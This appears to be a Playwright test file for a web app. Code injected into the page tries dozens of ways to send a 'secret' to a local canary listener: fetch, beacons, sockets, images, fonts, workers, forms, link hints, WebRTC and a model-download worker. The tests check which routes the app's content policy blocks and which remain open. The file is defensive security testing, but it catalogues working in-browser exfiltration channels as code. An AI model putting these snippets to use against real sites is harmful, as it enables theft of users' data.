import { createServer } from 'node:http';
import type { Page } from '@playwright/test';
import { listen } from '../tools/serve/listen';
import { openCanary, type Canary } from './support/canary';
import { expect, test } from './support/fixtures';

/*
 * Code runs in the page, as if something had let it in, and tries each way out that docs/threat-model.md names.
 * A canary listens elsewhere. What is stopped must not reach it; what nothing stops does, and is named there.
 */

let canary: Canary;

test.beforeEach(async ({ page }) => {
  canary = await openCanary();
  await page.goto('settings');
  await expect(page.getByRole('main').getByRole('heading', { level: 1 })).toBeVisible();
});

test.afterEach(async ({ page, watch }) => {
  canary.close();
  await page.close();
  // Each attempt is a violation and a foreign request: that is what is tried here.
  watch.violations.length = watch.foreignRequests.length = watch.errors.length = 0;
});

/** Each in the page, with the canary's address; whether it throws is all one. */
const stopped: Readonly<Record<string, (elsewhere: string) => unknown>> = {
  fetch: (elsewhere) => fetch(elsewhere, { mode: 'no-cors', keepalive: true }),
  XMLHttpRequest: (elsewhere) => {
    const request = new XMLHttpRequest();
    request.open('POST', elsewhere);
    request.send('secret');
  },
  beacon: (elsewhere) => navigator.sendBeacon(elsewhere, 'secret'),
  WebSocket: (elsewhere) => new WebSocket(elsewhere.replace('http', 'ws')),
  EventSource: (elsewhere) => new EventSource(elsewhere),
  WebTransport: (elsewhere) =>
    new (globalThis as unknown as { WebTransport: new (url: string) => unknown }).WebTransport(
      elsewhere.replace('http:', 'https:'),
    ),
  image: (elsewhere) => (new Image().src = elsewhere),
  sound: (elsewhere) => new Audio(elsewhere).play(),
  font: (elsewhere) => new FontFace('x', `url(${elsewhere})`).load(),
  'style by rule': (elsewhere) =>
    document.styleSheets[0]?.insertRule(`body { background: url(${elsewhere}) !important }`),
  'style of an element': (elsewhere) => (document.body.style.backgroundImage = `url(${elsewhere})`),
  import: (elsewhere) => import(/* @vite-ignore */ elsewhere),
  worker: (elsewhere) => new Worker(elsewhere),
  'worker of a blob': (elsewhere) =>
    new Worker(URL.createObjectURL(new Blob([`fetch('${elsewhere}', { mode: 'no-cors' })`]))),
  'shared worker': (elsewhere) => new SharedWorker(elsewhere),
  'service worker': (elsewhere) => navigator.serviceWorker.register(elsewhere),
  'speculation rules': (elsewhere) => {
    const script = document.createElement('script');
    script.type = 'speculationrules';
    script.textContent = JSON.stringify({ prefetch: [{ urls: [elsewhere] }] });
    document.head.append(script);
  },
  script: (elsewhere) => {
    const script = document.createElement('script');
    script.src = elsewhere;
    document.head.append(script);
  },
  frame: (elsewhere) => {
    const frame = document.createElement('iframe');
    frame.src = elsewhere;
    document.body.append(frame);
  },
  'object and embed': (elsewhere) => {
    const object = document.createElement('object');
    object.data = elsewhere;
    const embed = document.createElement('embed');
    embed.src = elsewhere;
    document.body.append(object, embed);
  },
  form: (elsewhere) => {
    const form = document.createElement('form');
    form.action = elsewhere;
    document.body.append(form);
    form.submit();
  },
  base: (elsewhere) => {
    const base = document.createElement('base');
    base.href = elsewhere;
    document.head.append(base);
    new Image().src = 'base.png';
  },
  ping: (elsewhere) => {
    const link = document.createElement('a');
    Object.assign(link, { href: '#', ping: elsewhere });
    document.body.append(link);
    link.click();
  },
  markup: (elsewhere) => (document.body.innerHTML += `<img src="${elsewhere}">`),
  'markup in a frame': (elsewhere) => {
    const frame = document.createElement('iframe');
    frame.srcdoc = `<img src="${elsewhere}">`;
    document.body.append(frame);
  },
  'a frame of the page’s own': (elsewhere) => {
    const frame = document.createElement('iframe');
    document.body.append(frame);
    return frame.contentWindow?.fetch(elsewhere, { mode: 'no-cors' });
  },
};

const rels = [
  'prefetch',
  'preload',
  'modulepreload',
  'stylesheet',
  'icon',
  'manifest',
  'prerender',
];

async function attackInAllWays(page: Page, before: () => Promise<unknown>): Promise<void> {
  const at = (name: string) => `http://127.0.0.1:${canary.port}/${name.replaceAll(/\W/g, '-')}`;
  for (const [name, attempt] of Object.entries(stopped)) {
    await before();
    await attack(page, attempt, at(name));
  }
  await before();
  for (const rel of rels) {
    await page.evaluate(
      ([rel, href]) => {
        const link = document.createElement('link');
        Object.assign(link, { rel, href, as: 'script' });
        document.head.append(link);
      },
      [rel, at(rel)] as const,
    );
  }
  // For what is sent late.
  await page.waitForTimeout(1_000);
}

test('the policy stops what code in the page sends by itself', async ({ page }) => {
  await attackInAllWays(page, () => Promise.resolve());
  // For one of them Chromium opens a connection before it asks the policy, and says nothing on it.
  expect(canary.heard.filter((line) => line !== '')).toEqual([]);
});

test('and nothing else would have: without a policy most of it arrives', async ({ page }) => {
  const bare = createServer((_, response) => {
    response.setHeader('Content-Type', 'text/html');
    response.end('<style>a { color: red }</style>');
  });
  const address = `http://127.0.0.1:${await listen(bare)}/`;
  await attackInAllWays(page, async () => {
    // What a style asks for, it asks for with the next frame.
    await page.waitForTimeout(150);
    await page.goto(address);
  });
  bare.close();
  bare.closeAllConnections();
  const heard = canary.heard.map((line) => /\/([\w-]+)/.exec(line)?.[1]);
  const tried = [...Object.keys(stopped), ...rels].map((name) => name.replaceAll(/\W/g, '-'));
  // Workers of other origins no browser starts, WebTransport speaks UDP, and prerendering is gone.
  expect(tried.filter((name) => !heard.includes(name))).toEqual([
    'WebTransport',
    'worker',
    'shared-worker',
    'service-worker',
    'prerender',
  ]);
});

/** What no policy stops; see "Ways out" in docs/threat-model.md. The canary is heard to hear. */
const open: Readonly<Record<string, (elsewhere: string) => unknown>> = {
  'leaving the page': (elsewhere) => (location.href = elsewhere),
  'leaving by a refresh': (elsewhere) => {
    const meta = document.createElement('meta');
    Object.assign(meta, { httpEquiv: 'refresh', content: `0; ${elsewhere}` });
    document.head.append(meta);
  },
  'another window': (elsewhere) => window.open(elsewhere),
  'a connection made ahead': (elsewhere) => {
    const link = document.createElement('link');
    Object.assign(link, { rel: 'preconnect', href: elsewhere });
    document.head.append(link);
  },
};

for (const [name, attempt] of Object.entries(open)) {
  test(`is not stopped, and named as a risk: ${name}`, async ({ page }) => {
    await attack(page, attempt, `http://127.0.0.1:${canary.port}/open`);
    await expect.poll(() => canary.heard.length).toBeGreaterThan(0);
  });
}

test('is not stopped, and named as a risk: WebRTC', async ({ page }) => {
  await page.evaluate(async (urls) => {
    const connection = new RTCPeerConnection({ iceServers: [{ urls }] });
    connection.createDataChannel('secret');
    await connection.setLocalDescription(await connection.createOffer());
  }, `stun:127.0.0.1:${canary.udpPort}`);
  await expect.poll(() => canary.heard).toContain('datagram');
});

test('is not stopped, and named as a risk: asking for a model of another host', async ({
  page,
}) => {
  const started = page.waitForEvent('worker', (worker) => worker.url().includes('/modelsWorker-'));
  await page.goto('models');
  const script = (await started).url();
  await askForModel(page, script, `http://127.0.0.1:${canary.port}/secret/`);
  await expect.poll(() => canary.heard.join()).toContain('GET /secret/');
});

test('the worker that brings models takes no address with a text in it, and no other site for its own', async ({
  page,
}) => {
  const started = page.waitForEvent('worker', (worker) => worker.url().includes('/modelsWorker-'));
  await page.goto('models');
  const script = (await started).url();
  const elsewhere = `http://127.0.0.1:${canary.port}/`;
  for (const address of [`${elsewhere}?secret`, `${elsewhere}${'secret'.repeat(60)}/`]) {
    expect(await askForModel(page, script, address)).toMatchObject({
      error: { code: 'address-refused' },
    });
  }
  await askForModel(page, script, undefined, elsewhere);
  expect(canary.heard).toEqual([]);
});

test('code in the page starts no script of another place, and makes no rule that would allow it', async ({
  page,
}) => {
  const tried = await page.evaluate(() => {
    const { trustedTypes } = globalThis as unknown as {
      trustedTypes: { createPolicy(name: string, rules: object): void };
    };
    const attempts = {
      rule: () => trustedTypes.createPolicy('other', { createHTML: (text: string) => text }),
      again: () => trustedTypes.createPolicy('default', { createHTML: (text: string) => text }),
      markup: () => (document.createElement('div').innerHTML = '<b>x</b>'),
      worker: () => new Worker('/elsewhere/../../evil.js?text=1'),
    };
    return Object.entries(attempts).flatMap(([name, attempt]) => {
      try {
        attempt();
        return [name];
      } catch {
        return [];
      }
    });
  });
  // What lies on the own origin is the app's own; the policy cannot tell more.
  expect(tried).toEqual(['worker']);
});

/** Whether the attempt throws, or waits for ever, is all one. */
async function attack(
  page: Page,
  attempt: (elsewhere: string) => unknown,
  elsewhere: string,
): Promise<void> {
  const tried = page.evaluate(attempt, elsewhere).catch(() => undefined);
  await Promise.race([tried, page.waitForTimeout(500)]);
}

/** As code in the page would: a worker of its own from the app's script. Resolves to its last answer. */
function askForModel(page: Page, script: string, address?: string, name = '/'): Promise<unknown> {
  return page.evaluate(
    ([script, address, name]) =>
      new Promise((resolve) => {
        const worker = new Worker(script, { type: 'module', name });
        worker.onmessage = ({ data }: MessageEvent<{ type: string }>) => {
          if (data.type !== 'event') resolve(data);
        };
        const source = address === undefined ? undefined : { kind: 'host', address };
        const params = { modelId: address === undefined ? 'demo' : 'bayling-2-7b', source };
        worker.postMessage({
          ...{ type: 'call', id: 1, name: 'ensure' },
          params: { quantization: 'q4f16_1', ...params },
        });
        setTimeout(() => resolve(undefined), 3_000);
      }),
    [script, address, name] as const,
  );
}
